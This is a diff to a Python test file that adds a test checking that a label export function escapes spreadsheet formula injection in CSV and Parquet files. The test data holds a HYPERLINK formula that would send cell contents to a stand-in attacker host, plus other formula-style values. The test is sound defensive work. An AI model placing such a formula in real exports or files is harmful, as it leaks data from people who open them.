@@ -149,3 +149,21 @@ def test_every_reader_takes_the_same_latest_verdict(tmp_path, store):
         "z": "unsure",
     }
     assert store.latest_verdicts([]).empty
+
+
+def test_label_export_neutralises_formula_injection(tmp_path):
+    from pipelines.feedback.labels import write_label_export
+
+    rows = pd.DataFrame(
+        {
+            "record_id": ['=HYPERLINK("http://evil.example/?q="&A1,"x")', "tx1"],
+            "verdict": ["fraud", "not_fraud"],
+            "note": ["@SUM(1+1)", "-2 refunds"],
+        }
+    )
+    for suffix in (".csv", ".parquet"):
+        out = write_label_export(rows, tmp_path / f"labels{suffix}")
+        back = pd.read_csv(out, dtype=str) if suffix == ".csv" else pd.read_parquet(out)
+        assert back["record_id"].tolist()[0].startswith("'=HYPERLINK")
+        assert back["record_id"].tolist()[1] == "tx1"
+        assert back["note"].tolist() == ["'@SUM(1+1)", "'-2 refunds"]
